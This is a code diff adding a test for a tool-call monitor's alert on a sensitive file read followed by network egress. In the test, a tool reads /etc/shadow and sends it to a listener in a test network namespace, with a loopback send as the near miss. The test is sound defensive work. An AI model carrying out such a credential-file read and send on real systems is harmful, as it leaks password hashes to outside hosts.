@@ -868,3 +868,39 @@ def test_a_new_tool_on_a_known_server(tmp_path):
     assert not e.process(listed(1, ["a"]) + listed(2, ["a"]))
     got = e.process(listed(3, ["a", "b"]))
     assert [a.rule for a in got] == ["New tool on a known server"] and "b: new tool" in got[0].output
+
+
+# --- chains within one call -------------------------------------------------------------------------
+
+def test_a_sensitive_read_then_egress_in_one_call(tmp_path, netns):
+    """read_then_send reads /etc/shadow, then connects to a host in a network namespace this test
+    made: one alert naming both events. The same tool sending to loopback is the near miss."""
+    import subprocess
+    name, _, ns_addr = netns
+    port = 20000 + os.getpid() % 1000
+    lst = subprocess.Popen(["ip", "netns", "exec", name, sys.executable, "-c",
+                            "import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
+                            "socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); "
+                            "print('ok', flush=True)\nwhile True: s.accept()[0].close()", ns_addr, str(port)],
+                           stdout=subprocess.PIPE, text=True)
+    local = Listener("127.0.0.1")
+    try:
+        assert lst.stdout.readline().strip() == "ok"
+
+        async def drive(c):
+            await c.call_tool("read_then_send", {"path": "/etc/shadow", "target": f"127.0.0.1:{local.port}"})
+            await c.call_tool("read_then_send", {"path": "/etc/shadow", "target": f"{ns_addr}:{port}"})
+
+        recs = run_session(tmp_path, "chain", "mw-chain", drive, rules_text="[]\n")
+    finally:
+        lst.kill()
+        lst.wait()
+        local.close()
+    sends = calls(recs, "read_then_send")
+    got = alerts(recs, "Sensitive read then egress in one call")
+    assert [a["call_id"] for a in got] == [sends[1]["call_id"]], [a["output"] for a in got]
+    f = got[0]["fields"]
+    assert f["chain.read"] == "/etc/shadow" and f["chain.connect"] == f"{ns_addr}:{port}"
+    assert f["chain.read_ms"] <= f["chain.connect_ms"]
+    # the near miss: the same read, then loopback
+    assert sends[0]["call_id"] not in {a["call_id"] for a in alerts(recs, "Sensitive read then egress in one call")}
